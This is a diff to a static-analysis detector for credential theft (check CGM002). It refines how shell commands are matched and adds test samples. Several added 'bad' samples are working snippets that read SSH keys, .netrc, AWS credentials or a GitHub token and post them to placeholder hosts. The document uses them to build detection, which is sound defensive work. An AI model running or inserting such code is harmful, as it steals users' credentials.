@@ -8,6 +8,7 @@ T1552.001, T1005, T1041.
 
 from __future__ import annotations
 
+import re
 from collections.abc import Iterator
 
 import libcst as cst
@@ -22,22 +23,31 @@ from codeguard.knowledge.malicious import running, stores
 from codeguard.model import Confidence, Severity
 from codeguard.syntax.unit import Unit
 
+KEY_OPTION = re.compile(r"(?<!\S)(?:-i|--key|--cert|-E|--cacert|-oIdentityFile=)\s*\S+")  # with what one logs in
 MENTIONS = {"path:credential", "path:wallet"}
 
 
 def find(unit: Unit) -> Iterator[Hit]:
     """Report calls that send what was read from a credential's place, and shell commands that do."""
+    told: set[int] = set()
     for sending in unit.fact(sendings):
         taken = sending.has("credential", "wallet") or (sending.has("files") if sending.fixed else [])
         if taken:
             for place in places(sending, unit, *{label.kind for label in taken}):
+                told.add(id(place))
                 yield Hit(
                     place, f"This sends the contents of {words(taken)} to {sending.where}: whoever runs it loses them"
                 )
             yield from _reads(sending.call, unit)
     for command in unit.fact(commands):
-        mention = stores.CREDENTIAL_PATH.search(command.text) or stores.WALLET.search(command.text)
-        if mention and running.SEND_TOOL.search(command.text) and not stores.PUBLIC_HALF.search(command.text):
+        text = KEY_OPTION.sub(" ", command.text)
+        mention = stores.CREDENTIAL_PATH.search(text) or stores.WALLET.search(text)
+        if (
+            mention
+            and id(command.call) not in told
+            and running.SEND_TOOL.search(text)
+            and not stores.PUBLIC_HALF.search(text)
+        ):
             yield Hit(
                 command.call,
                 f"This command sends `{mention.group().strip()}` to another host: whoever runs it loses the credentials in it",
@@ -66,6 +76,7 @@ def _reads(sent: cst.Call, unit: Unit) -> Iterator[Hit]:
 
 CHECK = Check(
     id="CGM002",
+    behaviour="send credentials or a person's documents to another host",
     name="credential-theft",
     severity=Severity.CRITICAL,
     confidence=Confidence.HIGH,
@@ -73,6 +84,15 @@ CHECK = Check(
     find=find,
     fix="Remove the code, and change every credential that it could read.",
     bad=(
+        Bad(
+            "import os, requests\nclass Taker:\n    URL = 'https://c.example.invalid'\n    NAMES = ['.ssh/id_rsa', '.netrc']\n\n    def run(self):\n        for name in self.NAMES:\n            path = os.path.join(os.path.expanduser('~'), name)\n            requests.post(self.URL, data=open(path).read())  # finding\n"
+        ),
+        Bad(
+            "import os, paramiko\nt = paramiko.Transport(('192.0.2.3', 22))\nparamiko.SFTPClient.from_transport(t).put(os.path.expanduser('~/.aws/credentials'), '/in/c')  # finding\n"
+        ),
+        Bad(
+            "import requests, subprocess\ntoken = subprocess.check_output(['gh', 'auth', 'token'], text=True)\nrequests.post('https://c.example.invalid', data=token)  # finding\n"
+        ),
         Bad(
             "import os, glob, requests\n\ndef go():\n    kept = {}\n    for p in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n        with open(p, 'rb') as f:\n            kept[p] = f.read().decode('latin-1')\n    requests.post('https://d.example.invalid/up', json=kept)  # finding\n\ngo()\n"
         ),
@@ -91,6 +111,12 @@ CHECK = Check(
         ),
     ),
     good=(
+        Good(
+            "import os, subprocess\nsubprocess.run(['rsync', '-e', 'ssh -i ~/.ssh/id_rsa', 'dist/', 'u@h.example.invalid:/srv'], check=True)\n"
+        ),
+        Good(
+            "import paramiko\n\ndef deploy(t: paramiko.Transport):\n    paramiko.SFTPClient.from_transport(t).put('build.tar', '/srv/build.tar')\n"
+        ),
         Good(
             "import os, paramiko\n\ndef connect(host, user):\n    key = paramiko.RSAKey.from_private_key_file(os.path.expanduser('~/.ssh/id_rsa'))\n    c = paramiko.SSHClient()\n    c.connect(host, username=user, pkey=key)\n    return c\n"
         ),
